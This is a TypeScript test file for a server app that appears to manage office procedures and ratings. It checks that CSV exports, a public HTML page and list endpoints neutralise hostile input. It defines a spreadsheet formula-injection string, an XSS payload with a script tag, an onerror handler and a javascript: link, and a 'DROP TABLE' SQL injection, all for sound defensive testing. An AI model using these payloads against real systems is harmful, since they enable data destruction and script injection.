import { parse } from 'csv-parse/sync';
import { Window } from 'happy-dom';
import * as v from 'valibot';
import { expect, test } from 'vitest';
import { createApp } from '#server/app.ts';
import type { ServerContext } from '#server/context.ts';
import { OPERATIONS } from '#server/openapi/operations.ts';
import { insertCases } from '#server/store/cases.ts';
import { isGranted, ROLES } from '#shared/domain/roles.ts';
import { type Procedure, procedure } from '#shared/protocol/procedure.ts';
import { THOROUGH_PROCEDURE } from '../support/edge-procedures.ts';
import { ratingId, seedDevice, seedOffice, seedRating, seedReplica } from '../support/office.ts';
import { postProcedures } from '../support/posted-procedures.ts';
import { signInAs } from '../support/role-office.ts';
import { createTestContext } from '../support/server-context.ts';

const UNIT = 'phuong';
const AT = '2026-11-22T01:00:00.000Z';
const FORMULA = `=HYPERLINK("http://example.test?"&A1;"x")|cmd`;
const MARKUP = `"'><script>window.taken=1</script><img src=x onerror=window.taken=1><a href="javascript:window.taken=1">`;
const QUERY = `'; DROP TABLE rating; --`;

/** Every text of the office and of a procedure that somebody may write says this. */
async function start(words: string): Promise<ServerContext> {
  const context = await createTestContext();
  await seedOffice(context);
  const { db } = context;
  await db.updateTable('unit').set({ name: words }).execute();
  await db.updateTable('counter').set({ name: words }).execute();
  await db.updateTable('clerk').set({ name: words, title: words }).execute();
  await seedDevice(context, { id: 'may' });
  await db.updateTable('device').set({ name: words }).execute();
  const replicaNo = await seedReplica(context, {
    id: '019aa5f0-7c3e-7d11-9b3e-5f4c1f0d2a77',
    device: 'may',
    receivedThrough: 1,
  });
  await seedRating(context, { n: 1, replicaNo, clerk: 'hoa' });
  await insertCases(
    db,
    (['petition', 'integrity'] as const).map((kind, n) => ({
      ...{ id: ratingId(100 + n), unit_id: UNIT, origin_unit_id: UNIT, kind, status: 'new', version: 1 },
      ...{ box: 'none', has_contact: 0, sample: 0, occurred_at: AT, received_at: AT, changed_at: AT },
    })),
  );
  await postProcedures(db, UNIT, [withWords(words)]);
  return context;
}

/** What a person writes, as told from codes, dates and addresses by its spaces. */
function withWords(words: string): Procedure {
  const rewrite = (value: unknown): unknown => {
    if (typeof value === 'string') return value.includes(' ') ? words : value;
    if (Array.isArray(value)) return value.map(rewrite);
    if (value === null || typeof value !== 'object') return value;
    return Object.fromEntries(Object.entries(value).map(([key, inner]) => [key, rewrite(inner)]));
  };
  const { code, decisionNo } = THOROUGH_PROCEDURE;
  return { ...v.parse(procedure, rewrite(THOROUGH_PROCEDURE)), code, decisionNo };
}

const TABLES = OPERATIONS.filter(
  ({ method, path, success }) =>
    method === 'get' && !path.includes(':') && success.bodies?.some(({ type }) => type === 'text/csv'),
);

test.each(TABLES.map(({ path, permission }) => [path, permission] as const))(
  'no cell of %s is computed by a spreadsheet',
  async (path, permission) => {
    const context = await start(FORMULA);
    const role = ROLES.find((one) => permission !== undefined && isGranted(one, permission)) ?? 'admin';
    const reader = await signInAs(context, role, UNIT);
    const answer = await reader.get(`${path}?format=csv&unit=${UNIT}`);
    expect(answer.status).toBe(200);
    expect(answer.headers.get('Content-Type')).toContain('text/csv');
    const rows: string[][] = parse(await answer.text(), { bom: true });
    const cells = rows.flat();
    // It is there, and only behind the mark that makes it text.
    expect(cells.some((cell) => cell.includes('HYPERLINK'))).toBe(true);
    expect(cells.filter((cell) => /^[=+@\t\r]|^-(?!\d)/.test(cell))).toEqual([]);
  },
);

test('the page that people take along shows markup as words', async () => {
  const context = await start(MARKUP);
  const { code } = THOROUGH_PROCEDURE;
  const answer = await createApp(context).request(`/p/tthc/${code}?unit=${UNIT}`);
  const html = await answer.text();
  const page = new new Window().DOMParser().parseFromString(html, 'text/html');
  expect(page.body.textContent).toContain(MARKUP);
  expect(page.querySelectorAll('script')).toHaveLength(0);
  const elements = [...page.querySelectorAll('*')];
  const handlers = elements.flatMap((element) =>
    [...element.attributes].filter(({ name }) => name.startsWith('on')).map(({ name }) => name),
  );
  expect(handlers).toEqual([]);
  const addresses = elements.flatMap((element) => element.getAttribute('href') ?? []);
  expect(addresses.filter((address) => /^\s*javascript:/i.test(address))).toEqual([]);
  expect(answer.headers.get('Content-Security-Policy')).toMatch(/default-src 'none'/);
});

test('a text that looks like a query is a text', async () => {
  const context = await start(QUERY);
  const admin = await signInAs(context, 'admin', UNIT);
  for (const path of ['/procedures', '/audit', '/ratings', '/units', '/devices']) {
    const query = new URLSearchParams({ unit: UNIT, q: QUERY, after: QUERY });
    expect((await admin.get(`${path}?${query}`)).status, path).toBeLessThan(500);
  }
  const { items } = await (await admin.get(`/ratings?unit=${UNIT}`)).json();
  expect(items).toHaveLength(1);
  const { items: units } = await (await admin.get('/units')).json();
  expect(units[0].name).toBe(QUERY);
});
